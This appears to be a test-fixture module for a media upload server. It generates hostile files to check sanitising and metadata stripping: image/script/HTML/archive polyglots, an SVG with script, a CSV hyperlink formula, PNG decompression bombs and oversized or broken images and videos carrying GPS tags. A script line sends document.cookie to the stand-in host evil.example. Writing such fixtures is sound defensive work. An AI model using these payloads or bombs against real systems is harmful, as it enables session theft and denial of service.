/** Files that somebody has prepared to run in a browser, to fill the server, or that tell where they were taken. */
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { Random } from '#database/demo/random.ts';
import { aFragmentedMp4, anImage, anMp4, aPhoto, aWebm, box } from '#tests/media.ts';

/** Written into every hostile file, in each of the ways a camera writes where it was. */
export const PLACE = '+47.3828+008.5307/';
/** The same in an EXIF block: degrees, minutes and seconds, each as a fraction. */
export const DEGREES = Buffer.from('0000002f00000001000000160000000100000e1a00000064', 'hex');
const SCRIPT = '<script>fetch("//evil.example?"+document.cookie)</script>';

export type Hostile = { name: string; bytes: Buffer };
type Maker = (chance: Random) => Promise<Hostile> | Hostile;

function segment(marker: number, ...parts: (Buffer | string)[]): Buffer {
  const body = Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
}

const CRCS = Array.from({ length: 256 }, (_, byte) => {
  let rest = byte;
  for (let bit = 0; bit < 8; bit++) rest = (rest >>> 1) ^ (rest & 1 ? 0xedb8_8320 : 0);
  return rest >>> 0;
});
const crc = (bytes: Buffer) => ~bytes.reduce((rest, byte) => CRCS[(rest ^ byte) & 255]! ^ (rest >>> 8), ~0) >>> 0;
function chunk(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(body.length);
  const named = Buffer.concat([Buffer.from(type), body]);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc(named));
  return Buffer.concat([head, named, check]);
}
/** A PNG that says it is so large, with so many zeros behind its header. */
function pngBomb(width: number, height: number, zeros: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0], 8);
  const data = deflateSync(Buffer.alloc(zeros), { level: 9 });
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

/** Puts it behind the beginning of a JPEG, where notes stand. */
const inJpeg = (image: Buffer, ...parts: Buffer[]) =>
  Buffer.concat([image.subarray(0, 2), ...parts, image.subarray(2)]);
const inPng = (image: Buffer, ...chunks: Buffer[]) =>
  Buffer.concat([image.subarray(0, 33), ...chunks, image.subarray(33)]);
const zeroTerminated = (word: string) => Buffer.from(`${word}\0`);
/** The smallest EXIF block that says where: one directory, one pointer to a second, and the degrees in it. */
const EXIF = Buffer.concat([
  Buffer.from('4d4d002a00000008', 'hex'),
  Buffer.from('0001_8825_0004_00000001_0000001a_00000000'.replaceAll('_', ''), 'hex'),
  Buffer.from('0001_0002_0005_00000003_0000002c_00000000'.replaceAll('_', ''), 'hex'),
  DEGREES,
]);
const XMP = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><exif:GPSLatitude>${PLACE}</exif:GPSLatitude></rdf:RDF></x:xmpmeta>`;

/** Changes a few bytes behind the beginning, or ends too early. */
function broken(chance: Random, bytes: Buffer): Buffer {
  const wrong = Buffer.from(bytes);
  for (let times = chance.between(1, 20); times > 0; times--)
    wrong[chance.between(16, wrong.length - 1)] = chance.between(0, 255);
  return chance.chance(0.5) ? wrong : wrong.subarray(0, chance.between(20, wrong.length));
}

export const MAKERS: Record<string, Maker> = {
  'a photo with its place': async (chance) => ({
    name: 'Photo.jpg',
    bytes: inJpeg(
      await aPhoto(PLACE, [chance.between(8, 300), chance.between(8, 300)]),
      segment(0xe1, 'Exif\0\0', EXIF),
    ),
  }),
  'a JPEG with XMP, IPTC, profile and comments': async () => ({
    name: 'Photo.jpeg',
    bytes: inJpeg(
      await anImage('jpeg'),
      segment(0xe1, 'http://ns.adobe.com/xap/1.0/\0', XMP),
      segment(0xed, 'Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20\x1c\x02\x5a\0\x12', PLACE),
      segment(0xe2, 'ICC_PROFILE\0\x01\x01', PLACE),
      segment(0xfe, SCRIPT, PLACE),
    ),
  }),
  'a JPEG with a second picture behind it': async () => ({
    name: 'Photo.jpg',
    bytes: Buffer.concat([await anImage('jpeg'), await aPhoto(PLACE), Buffer.from(PLACE)]),
  }),
  'a PNG with text, EXIF and XMP': async () => ({
    name: 'Shot.png',
    bytes: inPng(
      await anImage('png'),
      chunk('tEXt', Buffer.concat([zeroTerminated('Comment'), Buffer.from(SCRIPT + PLACE)])),
      chunk('zTXt', Buffer.concat([zeroTerminated('Place'), Buffer.from([0]), deflateSync(Buffer.from(PLACE))])),
      chunk('iTXt', Buffer.concat([zeroTerminated('XML:com.adobe.xmp'), Buffer.alloc(4), Buffer.from(XMP)])),
      chunk('eXIf', EXIF),
    ),
  }),
  'a GIF with comments': async () => {
    const image = await anImage('gif');
    const comment = Buffer.concat([Buffer.from('21fe12', 'hex'), Buffer.from(PLACE), Buffer.from([0])]);
    const xmp = Buffer.concat([
      Buffer.from('21ff0b', 'hex'),
      Buffer.from('XMP DataXMP'),
      Buffer.from([18]),
      Buffer.from(PLACE),
      Buffer.from([0]),
    ]);
    return { name: 'Move.gif', bytes: Buffer.concat([image.subarray(0, -1), comment, xmp, image.subarray(-1)]) };
  },
  'a GIF that is a script as well': (chance) => ({
    name: 'Script.gif',
    bytes: Buffer.from(`GIF89a/*${'\0'.repeat(chance.between(1, 40))}*/=1;fetch("//evil.example");//${PLACE}`),
  }),
  'a PNG that is a page as well': async () => ({
    name: 'Page.png',
    bytes: inPng(await anImage('png'), chunk('tEXt', Buffer.from(`<html>${SCRIPT}${PLACE}`))),
  }),
  'a JPEG that is an archive as well': async () => ({
    name: 'Archive.jpg',
    bytes: Buffer.concat([
      await anImage('jpeg'),
      Buffer.from(`PK\x03\x04${PLACE}PK\x05\x06`, 'latin1'),
      Buffer.alloc(18),
    ]),
  }),
  'a PDF that is a page as well': () => ({ name: 'Plan.pdf', bytes: Buffer.from(`%PDF-1.7\n<html>${SCRIPT}</html>`) }),
  'a page that calls itself notes': () => ({ name: 'Notes.txt', bytes: Buffer.from(`<html>${SCRIPT}</html>`) }),
  'a formula for a spreadsheet': () => ({
    name: 'Players.csv',
    bytes: Buffer.from(`=HYPERLINK("//evil.example")\n${SCRIPT}`),
  }),
  'a drawing that calls itself a picture': (chance) => ({
    name: `Drawing.${chance.pick(['png', 'jpg', 'gif'])}`,
    bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
  }),
  'a picture under the name of another kind': async (chance) => ({
    name: `Other.${chance.pick(['png', 'jpg', 'gif', 'mp4'])}`,
    bytes: await anImage(chance.pick(['png', 'jpeg', 'gif', 'webp'])),
  }),
  'a PNG of 40,000 × 40,000': () => ({ name: 'Bomb.png', bytes: BOMB }),
  'a PNG whose data never ends': (chance) => ({
    name: 'Bomb.png',
    bytes: pngBomb(chance.between(100, 7000), 7000, 20_000_000),
  }),
  'a photo that says it is 60,000 wide': async () => {
    const image = Buffer.from(
      await sharp(await anImage('jpeg', [32, 32]))
        .jpeg({ progressive: true })
        .toBuffer(),
    );
    image.fill(0xea, image.indexOf(Buffer.from('ffc2', 'hex')) + 5, image.indexOf(Buffer.from('ffc2', 'hex')) + 9);
    return { name: 'Wide.jpg', bytes: image };
  },
  'a GIF that says it is 60,000 wide': async () => {
    const image = Buffer.from(await anImage('gif'));
    image.fill(0xea, 6, 10);
    return { name: 'Wide.gif', bytes: image };
  },
  'a GIF of very many frames': async (chance) => {
    const image = await anImage('gif', [chance.between(50, 400), 400]);
    const frames = Array.from({ length: chance.between(2, 2000) }, () => image.subarray(image.indexOf(0x2c), -1));
    return { name: 'Frames.gif', bytes: Buffer.concat([image.subarray(0, -1), ...frames, image.subarray(-1)]) };
  },
  'a broken photo': async (chance) => ({ name: 'Photo.jpg', bytes: broken(chance, await aPhoto(PLACE)) }),
  'a broken PNG': async (chance) => ({
    name: 'Shot.png',
    bytes: broken(
      chance,
      await sharp(await aPhoto(PLACE))
        .png()
        .toBuffer(),
    ),
  }),
  'a broken GIF': async (chance) => ({ name: 'Move.gif', bytes: broken(chance, await anImage('gif', [60, 60])) }),
  'an animation with its place': async () => {
    const frames = await Promise.all([1, 2].map((width) => anImage('png', [9 * width, 9])));
    const image = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    return {
      name: 'Move.gif',
      bytes: Buffer.concat([
        image.subarray(0, -1),
        Buffer.from('21fe12', 'hex'),
        Buffer.from(PLACE),
        Buffer.from('003b', 'hex'),
      ]),
    };
  },
  'a video with its place': (chance) => {
    const note = chance.pick([
      box('udta', box('\u00a9xyz', PLACE)),
      box('meta', box('ilst', PLACE)),
      box('uuid', PLACE),
      box('gps ', PLACE),
    ]);
    const bytes = chance.pick([
      anMp4({ tables: [note] }),
      anMp4({ inTrack: [note] }),
      anMp4({ boxes: [note, box('free', PLACE)] }),
      anMp4({ noted: Buffer.from(PLACE), between: Buffer.from(`freeGPS ${PLACE}`) }),
      aFragmentedMp4(Buffer.from(PLACE)),
    ]).bytes;
    return { name: chance.pick(['Goal.mp4', 'Goal.mov', 'Goal.m4v']), bytes };
  },
  'a WebM with tags': (chance) => ({ name: 'Goal.webm', bytes: aWebm(PLACE, { endless: chance.chance(0.5) }).bytes }),
  'a broken video': (chance) => ({
    name: 'Goal.mp4',
    bytes: broken(chance, anMp4({ noted: Buffer.from(PLACE) }).bytes),
  }),
  'a broken WebM': (chance) => ({ name: 'Goal.webm', bytes: broken(chance, aWebm(PLACE).bytes) }),
  'a video of boxes in boxes': (chance) => {
    let inner = box('free', PLACE);
    for (let depth = chance.between(10, 3000); depth > 0; depth--)
      inner = box(chance.pick(['moov', 'trak', 'mdia', 'minf']), inner);
    return { name: 'Deep.mp4', bytes: Buffer.concat([box('ftyp', 'isom'), inner]) };
  },
  'a video whose tables say they are endless': (chance) => {
    const { bytes } = anMp4();
    const wrong = Buffer.from(bytes);
    const table = chance.pick(['stsz', 'stsc', 'stco', 'stts']);
    wrong.fill(0xff, wrong.indexOf(table) + 8, wrong.indexOf(table) + 16);
    return { name: 'Endless.mp4', bytes: wrong };
  },
};
/** 194 kB on the way, 200 MB once it is unpacked, and 1.6 gigapixels by its header. */
const BOMB = pngBomb(40_000, 40_000, 200_000_000);
